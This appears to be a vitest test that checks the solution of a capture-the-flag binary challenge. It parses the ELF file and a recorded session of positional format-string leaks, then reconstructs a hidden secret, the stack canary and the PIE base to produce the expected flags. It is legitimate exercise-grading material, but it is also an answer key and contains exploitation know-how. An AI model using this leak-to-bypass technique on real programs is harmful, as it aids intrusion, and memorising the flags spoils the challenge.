import { expect, test } from 'vitest';
import { expectSolves, openChallenge } from '../../testing.ts';

/** Offset in the file (equal to its relative address here) of a function of the symbol table. */
function symbol(elf: Buffer, wanted: string): number {
  const start = Number(elf.readBigUInt64LE(0x28));
  const field = (index: number, at: number) => Number(elf.readBigUInt64LE(start + index * 64 + at));
  const count = elf.readUInt16LE(0x3c);
  const table = Array.from({ length: count }, (_, index) => index).find(
    (index) => elf.readUInt32LE(start + index * 64 + 4) === 2,
  )!;
  const names = field(elf.readUInt32LE(start + table * 64 + 40), 24);
  for (let at = field(table, 24); at < field(table, 24) + field(table, 32); at += 24) {
    const name = names + elf.readUInt32LE(at);
    if (elf.toString('latin1', name, elf.indexOf(0, name)) === wanted)
      return Number(elf.readBigUInt64LE(at + 8));
  }
  throw new Error(`no symbol ${wanted}`);
}

/** Each positional word asked by the recorded session, with the value the program printed for it. */
function leakedWords(session: string): Map<number, bigint> {
  const words = new Map<number, bigint>();
  for (const [, asked, answer] of session.matchAll(/^vous> (.*)\ncoco> (.*)$/gm)) {
    const positions = [...asked!.matchAll(/%(\d+)\$(?:p|0?\d*lx)/g)];
    if (positions.length === 0) continue;
    const shape = asked!
      .replace(/[.*+?^()|[\]\\/]/g, '\\$&')
      .replace(/%\d+\$(?:p|0?\d*lx)/g, '(\\(nil\\)|(?:0x)?[0-9a-f]+)');
    const values = new RegExp(`^${shape}$`).exec(answer!)!.slice(1);
    values.forEach((value, index) => {
      words.set(
        Number(positions[index]![1]),
        value === '(nil)' ? 0n : BigInt(`0x${value.replace('0x', '')}`),
      );
    });
  }
  return words;
}

test('the secret, the canary and the moved function are read in the session', () => {
  const challenge = openChallenge(import.meta.url);
  const elf = challenge.file('perroquet');
  const words = leakedWords(challenge.file('session.txt').toString('utf8'));

  const listen = symbol(elf, 'ecouter');
  const frame = elf.readUInt32LE(elf.indexOf(Buffer.from('4881ec', 'hex'), listen) + 3); // sub rsp, frame
  const lea = elf.indexOf(Buffer.from('488d85', 'hex'), listen); // lea rax,[rbp+disp32], the secret
  const slotBelowBase = (distance: number) => 6 + (frame - distance) / 8;
  const first = slotBelowBase(-elf.readInt32LE(lea + 3));
  const secret = Buffer.alloc(48);
  for (let word = 0; word < 6; word++) secret.writeBigUInt64LE(words.get(first + word)!, word * 8);

  const main = symbol(elf, 'main');
  let call = main;
  while (elf[call] !== 0xe8 || call + 5 + elf.readInt32LE(call + 1) !== listen) call++;
  const base = words.get(slotBelowBase(-8))! - BigInt(call + 5);
  expect(base & 0xfffn).toBe(0n);

  expectSolves(
    challenge,
    secret.toString('latin1').split('\0')[0]!,
    `FANION{canari_0x${words.get(slotBelowBase(8))!.toString(16).padStart(16, '0')}}`,
    `FANION{cambuse_0x${(base + BigInt(symbol(elf, 'ouvrir_cambuse'))).toString(16)}}`,
  );
});
